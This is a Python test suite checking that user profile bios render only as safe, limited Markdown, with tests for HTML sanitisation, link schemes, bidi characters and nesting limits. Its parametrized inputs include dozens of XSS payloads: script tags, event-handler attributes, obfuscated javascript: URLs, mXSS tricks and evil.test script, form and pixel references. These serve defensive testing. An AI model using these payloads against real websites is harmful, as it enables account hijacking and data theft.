"""What people write about themselves is Markdown, and never markup of theirs (SECURITY 13; docs/ui.md)."""

import re
from urllib.parse import urlsplit

import pytest
from justhtml import Element

from tests.conftest import shared
from tests.support.client import Page, Person
from tests.support.market import change_profile

alice = shared("Alice Owner")

TAGS = {"p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code", "pre"}
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "pre": {"tabindex"}}
BIO_MAX = 2000


def bio_page(person: Person, bio: str) -> Page:
    """The public page of this person, who says this of themselves."""
    change_profile(person, bio=bio)
    return person.page(f"/u/{person.id}")


def inside(page: Page) -> list[Element]:
    """The elements that the bio is made of."""
    return list(page.one(".rich").query("*"))


def check_bio(page: Page) -> None:
    """Nothing but words, emphasis, lists, quotes, code and links that lead nowhere unsafe."""
    for element in inside(page):
        assert element.name in TAGS
        assert element.attrs.keys() <= ATTRIBUTES.get(element.name, set())
        if element.name == "a":
            assert element.attrs["rel"] == "nofollow noopener ugc"
            assert urlsplit(element.attrs.get("href") or "").scheme in ("http", "https", "mailto", "")
            assert not re.search(r"[\s\x00-\x20]", element.attrs.get("href") or "")
    assert len(page.all("h1")) == 1


def test_words_are_not_turned_by_entities_either(alice: Person) -> None:
    page = bio_page(
        alice, "gpj&#x202E;exe &#8238;turned&#x2066; **b&#x202d;old** [x&#x202E;](https://example.org)"
    )
    assert not set(page.text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert "gpjexe turned bold x" in page.text


@pytest.mark.parametrize(
    ("bio", "html"),
    [
        ("One\n\ntwo", "<p>One</p>\n<p>two</p>"),
        ("One\ntwo", "<p>One<br>\ntwo</p>"),
        (
            "**bold**, *italic* and `code`",
            "<p><strong>bold</strong>, <em>italic</em> and <code>code</code></p>",
        ),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("```\na < b\n```", '<pre tabindex="0"><code>a &lt; b\n</code></pre>'),
        (
            "[my work](https://example.org/a?b=c&d=e)",
            '<p><a href="https://example.org/a?b=c&amp;d=e" rel="nofollow noopener ugc">my work</a></p>',
        ),
        (
            "<https://example.org>",
            '<p><a href="https://example.org" rel="nofollow noopener ugc">https://example.org</a></p>',
        ),
        (
            "[me][1]\n\n[1]: https://example.org",
            '<p><a href="https://example.org" rel="nofollow noopener ugc">me</a></p>',
        ),
        ("a & b < c &amp; &copy; &#106;", "<p>a &amp; b &lt; c &amp; © j</p>"),
        ("# No heading", "<p># No heading</p>"),
        ("No heading\n===", "<p>No heading<br>\n===</p>"),
        ("<b>no markup</b>", "<p>&lt;b&gt;no markup&lt;/b&gt;</p>"),
        ("{{ 7*7 }} {%raw%}", "<p>{{ 7*7 }} {%raw%}</p>"),
    ],
)
def test_what_is_written_and_what_is_shown(alice: Person, bio: str, html: str) -> None:
    change_profile(alice, bio=bio)
    text = alice.request("GET", f"/u/{alice.id}", hooks={"response": []}).text
    assert f'<div class="rich" dir="auto">{html}\n</div>' in text


@pytest.mark.parametrize(
    "bio",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror='alert(1)'//",
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,x'></object><embed src=x><base href=//evil.test>",
        "<form action=//evil.test><input name=csrf_token><button>Go</button></form>",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.test/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<h1>Second heading</h1>\n\n# Third\n\nFourth\n======",
        "</div></section></main></body></html><script>alert(1)</script>",
        "<!-- comment --><?php x ?><![CDATA[x]]><!DOCTYPE html>",
        "<p style='position:fixed' class='go' id='main' onclick='x()'>styled</p>",
        "<a href='https://example.org' target=_blank rel='opener' onclick=x()>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java\\script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](<\x01javascript:alert(1)>)",
        "[x]( javascript:alert(1))",
        "[x](vbscript:msgbox(1)) [x](livescript:x) [x](file:///etc/passwd)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x](data:image/png;base64,iVBORw0KGgo=)",
        "[x](blob:https://example.org/x) [x](intent://x#Intent;end) [x](tel:112) [x](ftp://example.org)",
        "[x](//evil.test) [x](/logout) [x](?next=x) [x](#main)",
        "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
        "[x](https://example.org/\"onmouseover=\"alert(1))",
        "[x\"onmouseover=\"alert(1)](https://example.org)",
        "[x][1]\n\n[1]: javascript:alert(1) 'title'",
        "[x][]\n\n[x]: data:text/html,<script>alert(1)</script>",
        "<javascript:alert(1)>",
        "<data:text/html,x> <x:y> <vbscript:x>",
        "<JAVASCRIPT:alert(1)> <https://example.org/\"onclick=\"x>",
        "<mailto:a@example.org?subject=x> <a@example.org>",
        "![x](https://evil.test/pixel.png)",
        "![x](javascript:alert(1))",
        "![x][1]\n\n[1]: https://evil.test/pixel.png",
        "[![x](https://evil.test/pixel.png)](https://example.org)",
        "https://example.org/<script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "```html onload=alert(1)\n<script>alert(1)</script>\n```",
        "~~~\"><script>alert(1)</script>\nx\n~~~",
        "    <script>alert(1)</script>",
        "<div\n\nonclick=x>\n\n</div>",
        "* <script>alert(1)</script>\n* > <img src=x onerror=x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "\\<script>alert(1)\\</script>",
        "***\n---\n___",
        "| a | b |\n|---|---|\n| <script>x</script> | y |",
        "\u202egnp.exe\u202c \u200b\ufeff \u2028 \u2029 \x85",
        "<a href=\"https://example.org\u2028javascript:x\">x</a>",
        "${7*7} #{7*7} {%x%} {{7*7",
        "[](https://example.org) [ ](https://example.org) [&#8203;](https://example.org) []()",
        "[x](https://example.org \"title\") <https://example.org>",
    ],
)  # fmt: skip
def test_hostile_words_are_words(alice: Person, bio: str) -> None:
    """SECURITY 13: no element, attribute or address beyond those that are meant, in any spelling."""
    page = bio_page(alice, bio)
    check_bio(page)
    # Around it the page is as any other: nothing was closed, opened or added by it.
    plain = bio_page(alice, "plain")
    assert [element.name for element in inside(plain)] == ["p"]
    assert len(page.all("*")) - len(inside(page)) == len(plain.all("*")) - 1


@pytest.mark.parametrize(
    "part",
    [
        "[", "![", "[[", "*", "**a", "_", "*_", "`", "``", "> ", ">", "- ", "-\n", "1. ", "1.\n ", "  - a\n",
        "<", "<a ", "<!--", "&", "&#", "\\", "a*b_", "[a](", "[a](b", "[a][", "[a]: b\n", "![a](", "](", ")",
        "~~~\n", "```\n", "\t", " \n", "<http://a.b>", "*a **b ", "> - ", "- > ", "((", "[x](<", "[a](((",
        "]: ", "\n\n", "**x*", "|", "\u0301", '"', "[a](b 'c", "</p>", "<x:",
    ],
)  # fmt: skip
def test_no_text_keeps_a_process_busy(alice: Person, part: str) -> None:
    """2,000 characters of whatever nests or repeats are shown within a second."""
    bombs = (part * (BIO_MAX // len(part)), "\n".join(part * n for n in range(1, 300)))
    for bomb in bombs:
        page = bio_page(alice, f"x{bomb}"[:BIO_MAX])
        check_bio(page)
        assert page.response.elapsed.total_seconds() < 1


def depth(element: Element) -> int:
    """How many elements stand around this one."""
    return 0 if element.parent is None else 1 + depth(element.parent)


def test_deep_nesting_has_an_end(alice: Person) -> None:
    for deep in (">" * BIO_MAX, "- " * (BIO_MAX // 2), "*a " * 600, "[" * 900 + "]" * 900):
        page = bio_page(alice, deep[:BIO_MAX])
        check_bio(page)
        assert max(map(depth, inside(page))) < 60
